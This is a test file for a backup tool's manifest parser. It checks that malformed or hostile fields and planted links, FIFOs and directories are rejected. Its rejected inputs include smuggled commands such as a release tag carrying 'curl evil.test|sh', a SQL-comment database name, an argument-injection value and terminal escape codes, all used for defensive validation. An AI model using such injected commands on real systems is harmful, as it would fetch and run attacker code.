@@ -1,0 +1,312 @@
+"""A backup's manifest: what was written is read again, and nothing else is believed."""
+
+import json
+import os
+import shutil
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from stackctl.backup import manifest
+from stackctl.backup.manifest import DUMP, GLOBALS, NAME, RDB, STATE, File, Manifest, Offsite, Redis
+from stackctl.core import openat
+from stackctl.core.errors import FailedError
+from tests.support.manifests import made
+
+WHOLE = replace(
+    made(1, redis=Redis("8.0.2", 5)),
+    release={"id": "20251123T120000.000Z", "tag": "1.0.0", "what a newer stackctl adds": 1},
+    schema="0003",
+    offsite=Offsite("2025-11-23T12:05:00+00:00", "4f1c2d3e"),
+)
+SHA256 = "0" * 64
+FILES = json.loads(WHOLE.to_json())["files"]
+POSTGRES = json.loads(WHOLE.to_json())["postgres"]
+
+
+OLD = """{
+  "version": 2,
+  "id": "20251123T120003.580Z",
+  "app": "bot",
+  "reason": "asked",
+  "at": "2025-11-23T12:00:00+00:00",
+  "sequence": 1,
+  "release": {
+    "id": "20251123T120000.000Z",
+    "tag": "1.0.0",
+    "image": "registry.lab.test/bot@sha256:1.0.0",
+    "env_sha256": "e",
+    "schema": "0001",
+    "since": "2025-11-23T12:00:00+00:00"
+  },
+  "schema": "0001",
+  "postgres": {"version": "17.11 (Debian 17.11-1.pgdg130+1)", "database": "app", "bytes": 7000000},
+  "redis": {"version": "8.0.2", "keys": 5},
+  "tables": {"public.offers": 12, "public.users": 3},
+  "files": {
+    "postgres.dump": {"bytes": 40, "sha256": "SUM"},
+    "globals.sql": {"bytes": 2, "sha256": "SUM"},
+    "state.json": {"bytes": 279, "sha256": "SUM"},
+    "redis.rdb": {"bytes": 1, "sha256": "SUM"}
+  },
+  "verified": {"at": "2025-11-23T12:00:00+00:00", "seconds": 0.2, "rows": 15},
+  "offsite": null
+}
+""".replace("SUM", SHA256)
+COUNTS = st.integers(0, 2**63 - 1)
+
+
+@given(st.dictionaries(st.text(min_size=1, max_size=127), COUNTS, max_size=5), COUNTS)
+def test_what_was_written_is_read_again(tables: dict[str, int], sequence: int) -> None:
+    written = replace(WHOLE, tables=tables, sequence=sequence)
+    assert manifest.parse(written.to_json(), "it") == written
+    least = replace(made(1, verified=False), tables=tables)
+    assert manifest.parse(least.to_json(), "it") == least
+
+
+@pytest.mark.parametrize(
+    ("change", "fault"),
+    [
+        ({"version": 1}, "is of version 1, not 2"),
+        ({"more": 1}, "more is unknown"),
+        ({"id": "../20251123T000001.000Z"}, "id makes no sense"),
+        ({"reason": "boredom"}, "reason makes no sense"),
+        ({"at": "2025-11-23T12:00:00"}, "at makes no sense"),
+        ({"sequence": True}, "sequence makes no sense"),
+        ({"release": {"id": "20251123T120000.000Z"}}, "release makes no sense"),
+        ({"postgres": {"version": "17.11", "database": "app"}}, "postgres makes no sense"),
+        ({"redis": {"version": "", "keys": 1}}, "redis makes no sense"),
+        ({"tables": {"public.offers": -1}}, "tables makes no sense"),
+        (
+            {"files": {"globals.sql": {"bytes": 1, "sha256": SHA256}}},
+            "files has no postgres.dump, files has no redis.rdb, files has no state.json",
+        ),
+        ({"files": {**FILES, "more.sql": FILES["globals.sql"]}}, "files has more.sql, which is none of a backup's"),
+        ({"redis": None}, "files has redis.rdb, which is none of a backup's"),
+        ({"files": {"postgres.dump": {"bytes": 1, "sha256": "0"}}}, "files makes no sense"),
+        (
+            {"files": {name: {"bytes": 1, "sha256": SHA256} for name in ("postgres.dump", "../x")}},
+            "files makes no sense",
+        ),
+        ({"postgres": {**POSTGRES, "version": "1" * 5000}}, "postgres makes no sense"),
+        ({"postgres": {**POSTGRES, "version": "17.11\n"}}, "postgres makes no sense"),
+        ({"postgres": {**POSTGRES, "version": "17.11", "bytes": 2**63}}, "postgres makes no sense"),
+        ({"postgres": {**POSTGRES, "database": "app; --"}}, "postgres makes no sense"),
+        ({"app": "\x1b[2J"}, "app makes no sense"),
+        ({"at": "0001-01-01T00:00:00+00:00"}, "at makes no sense"),
+        ({"sequence": 2**63}, "sequence makes no sense"),
+        ({"schema": "0003\x1b[31m"}, "schema makes no sense"),
+        ({"release": {"id": "x", "tag": "1.0.0; curl evil.test|sh #"}}, "release makes no sense"),
+        ({"release": {"id": "x", "tag": "1" * 129}}, "release makes no sense"),
+        ({"tables": {"": 1}}, "tables makes no sense"),
+        ({"tables": {"x" * 128: 1}}, "tables makes no sense"),
+        ({"verified": {"at": "2025-11-23T12:00:00+00:00", "seconds": 1e400, "rows": 1}}, "verified makes no sense"),
+        (
+            {"offsite": {"at": "2025-11-23T12:00:00+00:00", "snapshot": "--password-command=x"}},
+            "offsite makes no sense",
+        ),
+        ({"verified": {"at": "today", "seconds": 1, "rows": 1}}, "verified makes no sense"),
+        ({"offsite": {"at": "2025-11-23T12:00:00+00:00", "snapshot": ""}}, "offsite makes no sense"),
+    ],
+)
+def test_what_makes_no_sense_is_refused_by_name(change: dict[str, Any], fault: str) -> None:
+    document = json.loads(WHOLE.to_json()) | change
+    with pytest.raises(FailedError, match=f"^/there: {fault}: take another backup"):
+        manifest.parse(json.dumps(document), "/there")
+
+
+@pytest.mark.parametrize("key", json.loads(WHOLE.to_json()))
+def test_nothing_may_be_missing(key: str) -> None:
+    document = json.loads(WHOLE.to_json())
+    del document[key]
+    with pytest.raises(FailedError, match=key):
+        manifest.parse(json.dumps(document), "it")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "[]",
+        '{"version": 2',
+        "\x00",
+        "[" * 100_000,
+        '{"sequence": 1' + "0" * 5000 + "}",
+        " " * (manifest.LONGEST + 1),
+    ],
+    ids=["nothing", "a list", "torn", "no text", "too deep", "a number without end", "too long"],
+)
+def test_what_is_no_manifest_is_refused(text: str) -> None:
+    with pytest.raises(FailedError, match="it"):
+        manifest.parse(text, "it")
+
+
+def test_what_is_no_backup_is_named_and_counts_for_nothing(tmp_path: Path) -> None:
+    later, sooner, torn, another = made(2), made(1), made(3), made(4)
+    for one in (later, sooner, torn, another):
+        (tmp_path / one.id).mkdir()
+        manifest.save(tmp_path / one.id, one)
+    (tmp_path / torn.id / "manifest.json").write_text("{")
+    manifest.save(tmp_path / another.id, later)
+    (tmp_path / f"{made(5).id}.partial").mkdir()
+    (tmp_path / "lost+found").mkdir()
+    assert manifest.every(tmp_path) == [sooner, later]
+    faults = manifest.unreadable(tmp_path)
+    assert [torn.id in faults[0], f"is the one of {later.id}" in faults[1], len(faults)] == [True, True, 2]
+
+
+def test_what_nobody_could_read_again_is_not_written(tmp_path: Path) -> None:
+    """What a container said is in a manifest, too: its version, for instance."""
+    one = made(1, redis=Redis("8.0.2\nverified: yes", 5))
+    (tmp_path / one.id).mkdir()
+    with pytest.raises(FailedError, match=r"manifest\.json: redis makes no sense"):
+        manifest.save(tmp_path / one.id, one)
+    assert list((tmp_path / one.id).iterdir()) == []
+
+
+WHY = 'pg_restore of postgres.dump: ERROR:  relation "z" does not exist'
+
+
+def test_one_that_could_not_be_proven_says_why_and_a_proven_one_is_read_by_an_older_stackctl() -> None:
+    """Which refuses a manifest with a key that it does not know."""
+    unproven = made(1, verified=False, unproven=WHY)
+    assert manifest.parse(unproven.to_json(), "here") == unproven
+    assert "unproven" not in json.loads(made(1).to_json())
+
+
+@pytest.mark.parametrize("why", ["", "x" * 501, "two\nlines", "\x1b[31mred", 7, True])
+def test_why_it_is_unproven_is_one_line_that_can_be_shown(why: Any) -> None:
+    document = json.loads(made(1, verified=False).to_json()) | {"unproven": why}
+    with pytest.raises(FailedError, match="unproven makes no sense"):
+        manifest.parse(json.dumps(document), "here")
+
+
+def test_nothing_is_proven_and_unproven() -> None:
+    """It would be the latest, and its rows would be compared with nothing."""
+    document = json.loads(made(1).to_json()) | {"unproven": WHY}
+    with pytest.raises(FailedError, match="it is verified and unproven"):
+        manifest.parse(json.dumps(document), "here")
+
+
+def test_a_backup_of_before_is_still_read(tmp_path: Path) -> None:
+    """As stackctl wrote it until November 2026."""
+    directory = tmp_path / "20251123T120003.580Z"
+    directory.mkdir()
+    (directory / "manifest.json").write_text(OLD)
+    (found,) = manifest.every(tmp_path)
+    assert (found.postgres.major, found.redis, found.release) == (17, Redis("8.0.2", 5), json.loads(OLD)["release"])
+
+
+@pytest.fixture
+def whole(tmp_path: Path) -> tuple[Path, Manifest]:
+    """A backup, each file as its manifest says."""
+    one = made(1, redis=Redis("8.0.2", 5))
+    directory = tmp_path / one.id
+    directory.mkdir()
+    for name in one.files:
+        (directory / name).write_bytes(b"1234")
+    one = replace(one, files={name: manifest.describe(directory / name) for name in one.files})
+    manifest.save(directory, one)
+    return directory, one
+
+
+def test_files_that_are_not_what_was_written_are_named(whole: tuple[Path, Manifest]) -> None:
+    directory, told = whole
+    assert told.files[DUMP] == File(4, "03ac674216f3e15c761ee1a5e255f067953623c8b388b4459e13f978d7c846f4")
+    assert manifest.differing(directory, told) == []
+    (directory / DUMP).write_bytes(b"123")
+    (directory / GLOBALS).write_bytes(b"1235")
+    (directory / STATE).unlink()
+    assert manifest.differing(directory, told) == [
+        f"{DUMP} has 3 bytes, its manifest says 4",
+        f"{GLOBALS} is not what was written (its SHA-256 differs)",
+        f"{STATE} is missing",
+    ]
+    shutil.rmtree(directory)
+    assert manifest.differing(directory, told) == [f"{name} is missing" for name in told.files]
+    directory.mkdir()
+    (directory / "empty").touch()
+    with pytest.raises(FailedError, match="empty is empty"):
+        manifest.describe(directory / "empty")
+
+
+@pytest.mark.parametrize("name", [DUMP, GLOBALS, RDB, STATE, NAME])
+@pytest.mark.parametrize(
+    ("plant", "kind"),
+    [
+        (lambda path, other: path.symlink_to(other), "is a symbolic link, not a file"),
+        (lambda path, other: path.hardlink_to(other), "has 2 names"),
+        (lambda path, _: os.mkfifo(path), "is a FIFO, not a file"),
+        (lambda path, _: path.mkdir(), "is a directory, not a file"),
+    ],
+    ids=["link", "hard link", "fifo", "directory"],
+)
+def test_what_is_no_file_of_its_own_is_a_fault_though_its_content_were_right(
+    whole: tuple[Path, Manifest], name: str, plant: Callable[[Path, Path], None], kind: str
+) -> None:
+    """restic restores links, FIFOs and devices just as a hostile storage sends them."""
+    directory, told = whole
+    other = directory.parent / "other"
+    (directory / name).rename(other)
+    plant(directory / name, other)
+    if name == NAME:
+        with pytest.raises(FailedError, match=kind):
+            manifest.load(directory)
+        assert [kind in fault for fault in manifest.unreadable(directory.parent)] == [True]
+    else:
+        (fault,) = manifest.differing(directory, told)
+        assert kind in fault
+
+
+def test_what_a_manifest_does_not_name_is_a_fault(whole: tuple[Path, Manifest]) -> None:
+    directory, told = whole
+    (directory / f"{NAME}.new").touch()  # a save was killed
+    assert manifest.differing(directory, told) == []
+    (directory / "x\x1b[2J").mkdir()
+    assert manifest.differing(directory, told) == [r"'x\x1b[2J' is not named in its manifest"]
+    for number in range(20):
+        (directory / f"x{number:02}").symlink_to("/")
+    faults = manifest.differing(directory, told)
+    assert (len(faults), faults[-1]) == (6, "and 16 more")
+
+
+def test_a_file_that_is_swapped_while_it_is_compared_is_no_way_out(
+    whole: tuple[Path, Manifest], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Its size was right a moment ago. /dev/zero would have no end."""
+    directory, told = whole
+    real = openat.Directory.size
+
+    def size(self: openat.Directory, name: str) -> int:
+        found = real(self, name)
+        if name == RDB:
+            (directory / name).unlink()
+            (directory / name).symlink_to("/dev/zero")
+        return found
+
+    monkeypatch.setattr(openat.Directory, "size", size)
+    (fault,) = manifest.differing(directory, told)
+    assert "redis.rdb is a symbolic link, not a file" in fault
+
+
+@pytest.mark.parametrize("what", ["link", "file"])
+def test_what_is_named_like_a_backup_and_is_no_directory_is_named(tmp_path: Path, what: str) -> None:
+    path = tmp_path / made(1).id
+    (path.symlink_to("/etc") if what == "link" else path.touch())
+    assert manifest.every(tmp_path) == []
+    assert [f"{path} is a " in fault for fault in manifest.unreadable(tmp_path)] == [True]
+
+
+@pytest.mark.parametrize(
+    "document", [{"version": "x" * 1_000_000}, {"version": 2} | {f"key{n}": 1 for n in range(100_000)}]
+)
+def test_what_is_wrong_with_one_is_told_in_a_line_of_some_length(document: dict[str, Any]) -> None:
+    """It comes to `status`, the journal and history."""
+    with pytest.raises(FailedError) as told:
+        manifest.parse(json.dumps(document), "one")
+    assert len(str(told.value)) < 2 * manifest.MOST_TOLD
